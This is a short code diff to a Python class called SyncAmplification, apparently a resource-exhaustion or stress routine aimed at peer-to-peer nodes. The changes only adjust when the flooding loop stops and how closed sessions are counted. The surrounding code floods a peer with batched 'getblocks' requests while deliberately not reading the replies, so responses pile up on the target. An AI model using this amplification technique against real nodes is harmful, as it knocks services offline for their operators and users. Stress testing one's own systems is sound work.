@@ -47,7 +47,7 @@ class SyncAmplification:
                 stats["sessions"] += 1
                 cast(asyncio.Transport, peer.writer.transport).pause_reading()  # answers pile up
                 try:
-                    while loop.time() < end:
+                    while loop.time() < end and not peer.writer.is_closing():
                         batch = b"".join(
                             frame({"t": "getblocks", "req_id": req + k, "start": 0, "count": 128})
                             for k in range(20)
@@ -57,8 +57,9 @@ class SyncAmplification:
                         stats["requests"] += 20
                         await asyncio.sleep(0.02)
                 except (OSError, TimeoutError, ssl.SSLError):
-                    stats["closed"] += 1
+                    pass
                 finally:
+                    stats["closed"] += loop.time() < end  # ended before the attack did
                     await peer.aclose()
 
         async def report() -> None:
